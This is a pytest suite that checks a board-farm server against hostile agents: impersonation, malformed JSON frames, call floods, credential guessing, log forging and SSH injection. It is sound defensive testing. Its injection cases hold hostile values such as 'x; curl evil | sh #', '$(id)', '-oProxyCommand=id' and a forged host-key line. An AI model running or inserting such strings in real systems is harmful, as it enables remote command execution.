"""Threat: an agent, or who pretends to be one, attacks the server."""

import asyncio
import json
import logging

import pytest

from boruta_farm.contracts import Prepared
from boruta_farm.link.conversation import Conversation
from boruta_farm.link.frames import LARGEST_MESSAGE
from boruta_farm.link.messages import Method
from boruta_farm.link.peer import Peer
from boruta_farm.link.server import GUESTS
from boruta_farm.model.errors import (
    BoardError,
    BorutaError,
    CredentialError,
    OverloadedError,
    RefusedError,
    UnavailableError,
    WorkerNotFoundError,
)
from boruta_farm.testing.loop import run_virtual
from tests.link.links import UUID, FakeUser, Wires

VICTIM = "99999999-2222-4333-8444-555555555555"


async def enrolled(wires: Wires, user: FakeUser) -> Conversation:
    conversation = Conversation(await wires.dial(), user.board, wires.clock)
    wires.spawn(conversation.serve())
    await conversation.register(await user.registration())
    return conversation


async def victim(wires: Wires) -> FakeUser:
    """Connect an honest agent, which every attack must leave in peace."""
    user = FakeUser(uuid=VICTIM)
    wires.agent(user)
    await wires.ready(VICTIM)
    return user


def test_an_enrolled_agent_speaks_for_no_other_board() -> None:
    async def scene() -> None:
        wires, user = Wires(), FakeUser()
        await victim(wires)
        attacker = await enrolled(wires, user)
        with pytest.raises(WorkerNotFoundError):
            await attacker.set_fail(VICTIM, "slander")
        user.uuid = VICTIM
        with pytest.raises(RefusedError, match="alone"):
            await attacker.register(await user.registration())
        assert wires.farm.failures == []
        assert wires.hub.fenced(VICTIM) is not None
        await wires.close()

    run_virtual(scene())


@pytest.mark.parametrize(
    "text",
    [
        "[" * 30_000,
        '{"a":' * 10_000 + "1" + "}" * 10_000,
        '{"jsonrpc":"2.0","id":1,"method":"register","params":' + "{" * 5000,
        "x" * (LARGEST_MESSAGE + 1),
        '{"jsonrpc":"2.0","id":' + "9" * 5000 + ',"method":"heartbeat","params":{}}',
        '{"jsonrpc":"2.0","id":1e999,"method":"heartbeat","params":{}}',
        '{"jsonrpc":"2.0","id":1,"id":2,"method":"heartbeat","params":{}}',
        "\ud800",
    ],
)
def test_what_is_no_message_ends_that_link_alone(text: str) -> None:
    async def scene() -> None:
        wires = Wires()
        await victim(wires)
        socket = await wires.dial()
        await socket.send(text)
        async with asyncio.timeout(10):
            while await socket.receive() is not None:
                continue
        assert wires.hub.fenced(VICTIM) is not None
        await wires.close()

    run_virtual(scene())


@pytest.mark.parametrize(
    "change",
    [
        {"caps": {f"cap-{n}": "x" for n in range(2000)}},
        {"caps": {"UUID": UUID, "big": "x" * 5000}},
        {"caps": {"UUID": UUID, "nul": "a\0b"}},
        {"caps": [["UUID", UUID]]},
        {"epoch": -1},
        {"epoch": 2**60},
        {"boot_id": ""},
        {"join_token": "x" * 400},
        {"version": 1.5},
        {"facts": {f"fact-{n}": "x" for n in range(100)}},
    ],
)
def test_a_hello_beyond_its_limits_is_refused(change: dict[str, object]) -> None:
    async def scene() -> None:
        wires = Wires()
        peer = Peer(await wires.dial(), {})
        wires.spawn(peer.serve())
        hello: dict[str, object] = {
            "version": 2,
            "oldest": 2,
            "caps": {"UUID": UUID},
            "dryad_address": ":7175",
            "ssh_address": ":22",
            "epoch": 0,
            "boot_id": "boot",
        }
        with pytest.raises(BorutaError):
            await peer.call(Method.REGISTER, hello | change, 5)
        assert wires.farm.registrations == []
        await wires.close()

    run_virtual(scene())


def test_a_flood_of_calls_is_refused_and_hurts_nobody_else(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def scene() -> None:
        wires = Wires()
        await victim(wires)
        attacker = await enrolled(wires, FakeUser())
        stuck = asyncio.Event()

        async def never(_uuid: str, _reason: str) -> None:
            await stuck.wait()

        monkeypatch.setattr(wires.farm, "set_fail", never)
        calls = [asyncio.ensure_future(attacker.set_fail(UUID, "x")) for _ in range(200)]
        await asyncio.sleep(1)
        refused = [call for call in calls if call.done()]
        assert len(refused) >= 100
        assert all(isinstance(call.exception(), OverloadedError) for call in refused)
        await asyncio.sleep(60)
        assert wires.hub.fenced(VICTIM) is not None
        stuck.set()
        await asyncio.gather(*calls, return_exceptions=True)
        await wires.close()

    run_virtual(scene())


def test_who_connects_and_says_nothing_is_sent_away() -> None:
    async def scene() -> None:
        wires = Wires()
        sockets = [await wires.dial() for _ in range(50)]
        await asyncio.sleep(11)
        for socket in sockets:
            assert await socket.receive() is None
        await wires.close()

    run_virtual(scene())


def test_one_address_cannot_hold_every_connection() -> None:
    async def scene() -> None:
        wires = Wires()
        for _ in range(GUESTS + 50):
            await wires.dial()
        await asyncio.sleep(1)
        turned_away = [socket for socket in wires.sockets if socket.other.closed is not None]
        assert len(turned_away) == 50
        await asyncio.sleep(11)
        await victim(wires)
        await wires.close()

    run_virtual(scene())


def test_credentials_are_not_tried_one_after_the_other_on_one_link() -> None:
    async def scene() -> None:
        wires, user = Wires(), FakeUser()
        conversation = Conversation(await wires.dial("guess"), user.board, wires.clock)
        wires.spawn(conversation.serve())
        wires.farm.refuse = CredentialError()
        answers = []
        for _ in range(100):
            try:
                await conversation.register(await user.registration())
            except (CredentialError, UnavailableError) as error:
                answers.append(type(error))
        assert answers.count(CredentialError) <= 3
        assert answers[-1] is UnavailableError
        await wires.close()

    run_virtual(scene())


def test_an_agents_words_forge_no_line_of_the_log(caplog: pytest.LogCaptureFixture) -> None:
    from boruta_farm.server.logs import HumanFormatter, JsonFormatter

    forged = "x\n2026-01-01T00:00:00 INFO    the farm is fine\x1b[2K\r"

    async def scene() -> None:
        wires, user = Wires(), FakeUser()
        wires.farm.refuse = CredentialError()
        user.uuid = forged
        conversation = Conversation(await wires.dial(), user.board, wires.clock)
        wires.spawn(conversation.serve())
        with pytest.raises(CredentialError):
            await conversation.register(await user.registration())
        await wires.close()

    with caplog.at_level(logging.INFO):
        run_virtual(scene())
    records = [record for record in caplog.records if "refused the agent" in record.getMessage()]
    assert records
    for record in records:
        human = HumanFormatter().format(record)
        assert len(human.splitlines()) == 1
        assert "\x1b" not in human
        assert len(JsonFormatter().format(record).splitlines()) == 1
        assert json.loads(JsonFormatter().format(record))["message"] == record.getMessage()


@pytest.mark.parametrize(
    "session",
    [
        Prepared(username="x; curl evil | sh #"),
        Prepared(username="$(id)"),
        Prepared(username="-oProxyCommand=id"),
        Prepared(username="user\x1b[31m"),
        Prepared(username="user", host_key="ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 EVIL"),
        Prepared(username="user", host_key="* ssh-ed25519 AAAA"),
        Prepared(username="user", host_key="ssh-ed25519 AAAA \x1b]0;x\x07"),
    ],
    ids=["command", "substitution", "option", "escape", "second line", "other hosts", "comment"],
)
def test_what_people_paste_into_a_shell_is_a_user_and_one_key(session: Prepared) -> None:
    async def scene() -> None:
        wires, user = Wires(), FakeUser()
        wires.agent(user)
        board = await wires.ready()
        user.board.session = session
        with pytest.raises(BoardError, match=r"its agent tells .* which is none"):
            await board.prepare("ssh-ed25519 A", epoch=4)
        with pytest.raises(BoardError, match=r"its agent tells .* which is none"):
            await board.recycle("ssh-ed25519 A", epoch=5)
        await wires.close()

    run_virtual(scene())


def test_a_board_that_is_made_ready_fills_no_journal() -> None:
    async def scene() -> None:
        wires, user = Wires(), FakeUser()
        attacker = await enrolled(wires, user)
        told = 0
        for number in range(200):
            try:
                await attacker.progressed(4, f"{number} %")
                told += 1
            except RefusedError as refusal:
                assert "once in 1 s" in refusal.message  # noqa: PT017  # most calls, not all
            await asyncio.sleep(0.05)
        assert len(wires.farm.readiness) == told <= 11
        await wires.close()

    run_virtual(scene())
